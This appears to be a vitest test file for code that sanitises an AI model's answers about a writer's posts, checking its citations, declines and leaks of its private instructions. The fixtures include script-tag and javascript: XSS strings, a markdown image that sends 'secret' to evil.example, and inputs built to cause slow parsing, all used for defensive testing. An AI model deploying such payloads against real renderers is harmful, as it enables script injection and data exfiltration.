import { describe, expect, it } from 'vitest';
import type { FoundPost } from '../services/archive/post-search/post-search.js';
import { tidyAnswer, toAnswer, unusable } from './answer-rules.js';
import { ANSWER_CHARACTERS, type WrittenAnswer } from './answer-schema.js';

const post = (postId: string): FoundPost => ({
  ...{ postId, title: `Title of ${postId}`, body: 'A body.', caption: 'A caption.', hashtags: [] },
  ...{ altText: '', url: `https://desk.example/${postId}`, at: '2026-11-24T09:00:00.000Z' },
});
const offered = [post('AAAAAAAAAAAA'), post('BBBBBBBBBBBB')];
const written = (change: Partial<WrittenAnswer> = {}): WrittenAnswer => ({
  ...{ answered: true, answer: 'Rye holds more water.', citations: ['AAAAAAAAAAAA'] },
  ...change,
});
const problem = (change: Partial<WrittenAnswer>, secrets: readonly string[] = []): string | null =>
  unusable(written(change), offered, secrets);
const citedBy = (citations: string[]) =>
  toAnswer(written({ citations }), offered)?.cited.map((one) => one.postId);

describe('citations', () => {
  it('are those that were offered, each once, in the order of the answer', () => {
    expect(citedBy(['BBBBBBBBBBBB', ' AAAAAAAAAAAA ', 'BBBBBBBBBBBB'])).toEqual([
      'BBBBBBBBBBBB',
      'AAAAAAAAAAAA',
    ]);
  });

  it('of what was not offered are dropped', () => {
    expect(problem({ citations: ['CCCCCCCCCCCC', 'AAAAAAAAAAAA'] })).toBeNull();
    expect(citedBy(['CCCCCCCCCCCC', 'AAAAAAAAAAAA'])).toEqual(['AAAAAAAAAAAA']);
  });

  it.each([[[]], [['CCCCCCCCCCCC']]])('that are none of them make an answer useless: %j', (citations) => {
    expect(problem({ citations })).toMatch(/^it cites none of the posts that it was offered/);
  });
});

describe('an answer that says there is none', () => {
  it.each<[Partial<WrittenAnswer>]>([
    [{ answered: false }],
    [{ answered: false, citations: [] }],
    [{ answer: "I haven't written about that.", citations: [] }],
    [{ answer: 'Sorry, I have not posted about regattas.', citations: ['AAAAAAAAAAAA'] }],
    [{ answer: 'I’m afraid my posts do not say.', citations: [] }],
  ])('is a decline, whatever it cites: %j', (change) => {
    expect(problem(change)).toBeNull();
    expect(toAnswer(written(change), offered)).toBeNull();
  });

  it.each([
    "I haven't written about wheat, but rye holds more water.",
    'Bakers say that I have not written about rye. I have.',
    'My posts on rye say that it holds more water.',
  ])('is not seen in one that goes on to answer: %s', (answer) => {
    expect(toAnswer(written({ answer }), offered)).not.toBeNull();
  });
});

describe('the text of an answer', () => {
  it.each([
    ['Rye <b>holds</b> more water.', 'Rye holds more water.'],
    ['Rye<script>alert(1)</script> holds.', 'Rye holds.'],
    ['Rye <script>alert(1)', 'Rye'],
    ['Rye <!-- hidden --> holds.', 'Rye holds.'],
    ['See [my post](https://evil.example/x) on rye.', 'See my post on rye.'],
    ['![x](https://evil.example/?q=secret) Rye.', 'x Rye.'],
    ['Rye: https://evil.example/a?b=c .', 'Rye:.'],
    ['Rye at www.evil.example now.', 'Rye at now.'],
    ['Run javascript:alert(1) now.', 'Run now.'],
    ['Ry\u0000e\u202e \u200bholds\u0007.', 'Rye holds.'],
    ['One.\r\n\r\n\r\n\r\nTwo.\tThree.', 'One.\n\nTwo. Three.'],
    ['5 < 6 and 7 > 2', '5 < 6 and 7 > 2'],
    ['<https://evil.example>', ''],
  ])('%j is shown as %j', (answer, shown) => {
    expect(tidyAnswer(answer)).toBe(shown);
  });

  it('is cut after a sentence where it is too long, else after a word', () => {
    const sentences = tidyAnswer('Rye holds water. '.repeat(200));
    expect(sentences.length).toBeLessThanOrEqual(ANSWER_CHARACTERS);
    expect(sentences).toMatch(/water\.$/);
    const words = tidyAnswer('rye '.repeat(1_000));
    expect(words.length).toBeLessThanOrEqual(ANSWER_CHARACTERS);
    expect(words).toMatch(/rye…$/);
  });

  it('that is nothing but links and marks is of no use', () => {
    expect(problem({ answer: 'https://evil.example' })).toBe('the answer is empty');
  });

  it('takes no time over marks that never end', () => {
    for (const hostile of [
      '<a '.repeat(50_000),
      '<!--'.repeat(50_000),
      '[('.repeat(50_000),
      '<script'.repeat(20_000),
    ])
      expect(tidyAnswer(hostile).length).toBeLessThanOrEqual(ANSWER_CHARACTERS);
  });
});

describe('what was said to the model alone', () => {
  const secrets = ['Write drily. Never say more than a baker would say over the counter on a Saturday.'];
  it('does not come back in an answer', () => {
    const answer = 'My rules: never say more than a baker would say over the counter!';
    expect(problem({ answer }, secrets)).toBe('it repeats its instructions');
  });

  it('is not seen in a few words that anybody may use', () => {
    expect(problem({ answer: 'A baker would say over the counter: rye keeps.' }, secrets)).toBeNull();
  });
});
